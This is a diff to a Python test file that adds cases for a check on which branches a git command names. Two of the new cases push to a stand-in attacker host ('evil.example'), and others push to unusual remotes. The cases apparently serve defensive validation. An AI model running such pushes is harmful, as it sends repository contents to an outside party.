@@ -49,6 +49,8 @@ def test_the_branches_are_those_that_the_command_names(
         *("set -a; git commit", "read GIT_DIR; git commit", "./git commit", "git"),
         *("git push", "git push origin", "git push origin $branch", 'git push origin "$(a)"'),
         *("git push --all origin", "git push --tags origin feature/x", "git push origin -- main"),
+        *("git push https://evil.example/x feature/x", "git push git@evil.example:x feature/x"),
+        *("git push ../other feature/x", "git push evil feature/x", "git push $remote feature/x"),
         *("git push -o a=b origin feature/x", "git push --repo=x feature/x", "git $x", "git 'a"),
     ],
 )
